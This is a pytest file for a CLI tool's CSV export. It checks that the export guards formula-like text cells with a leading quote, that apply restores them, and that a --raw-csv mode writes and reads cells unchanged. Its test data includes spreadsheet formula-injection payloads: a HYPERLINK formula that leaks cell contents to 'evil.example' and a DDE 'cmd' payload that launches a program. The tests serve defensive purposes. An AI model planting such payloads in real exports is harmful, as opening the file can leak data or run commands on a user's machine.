"""A CSV export runs no formula when Excel opens it: a text cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` (numbers do not),
and ``numbers apply`` reads it back to the exact text, so the export round-trips;
``--raw-csv`` writes and reads the cells as they are."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from virtnum.cli.output.formulas import unguard, write_csv
from virtnum.testing import FakeServer

from ..._support import applied, run_cli

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'=already quoted",
]
PLAIN = ["+79201234567", "-5", "front desk", "'quoted", "a=b", ""]


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_a_guarded_cell_reads_back_exactly_and_never_runs(text: str) -> None:
    out = io.StringIO(newline="")
    assert write_csv(out, ["comment", "n"], [[text, -1]], ",", raw=False) == 1
    _, (cell, number) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert number == "-1"
    assert unguard(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or text in PLAIN
    assert (cell == text) == (text in PLAIN)


def exported(server: FakeServer, path: Path, *args: str) -> dict[int, dict[str, str]]:
    """``numbers list --format csv ARGS`` written to ``path``: its rows by id."""
    result = run_cli(server, "numbers", "list", "--format", "csv", "--output", str(path), *args)
    assert result.returncode == 0, result.stderr
    with path.open(newline="") as file:  # a cell may hold a carriage return
        return {int(row["id"]): row for row in csv.DictReader(file)}


def comments(server: FakeServer) -> dict[int, str]:
    """A formula-like comment on the first numbers, and a negative integer field."""
    ids = list(server.numbers)[: len(FORMULAS)]
    for number_id, text in zip(ids, FORMULAS, strict=True):
        server.numbers[number_id]["comment"] = text
    server.numbers[ids[0]]["group_id"] = -1
    return {number_id: server.numbers[number_id]["comment"] for number_id in ids}


def test_the_csv_export_quotes_formulas_and_apply_restores_them(
    threaded_server: FakeServer, tmp_path: Path
) -> None:
    wanted = comments(threaded_server)
    path = tmp_path / "numbers.csv"
    rows = exported(threaded_server, path, "--fields", "id,number,group_id,comment")
    for number_id, text in wanted.items():
        assert rows[number_id]["comment"] == "'" + text
    first = next(iter(wanted))
    assert rows[first]["group_id"] == "-1"  # a number, in an integer column
    assert rows[first]["number"] == threaded_server.numbers[first]["number"]
    for number_id in wanted:  # changed since the export: apply puts the export back
        threaded_server.numbers[number_id]["comment"] = "changed"
    applied(threaded_server, str(path))
    assert {i: threaded_server.numbers[i]["comment"] for i in wanted} == wanted


def test_raw_csv_writes_and_reads_the_cells_as_they_are(
    threaded_server: FakeServer, tmp_path: Path
) -> None:
    wanted = comments(threaded_server)
    rows = exported(threaded_server, tmp_path / "out.csv", "--fields", "id,comment", "--raw-csv")
    assert {i: rows[i]["comment"] for i in wanted} == wanted
    path = tmp_path / "raw.csv"
    path.write_text("id,comment\n" + "".join(f"{i},'=x{i}\n" for i in wanted))
    applied(threaded_server, str(path), "--raw-csv")
    assert {threaded_server.numbers[i]["comment"] for i in wanted} == {f"'=x{i}" for i in wanted}
    refused = run_cli(threaded_server, "numbers", "list", "--format", "jsonl", "--raw-csv")
    assert refused.returncode == 2
    assert "--raw-csv goes with --format csv" in refused.stderr
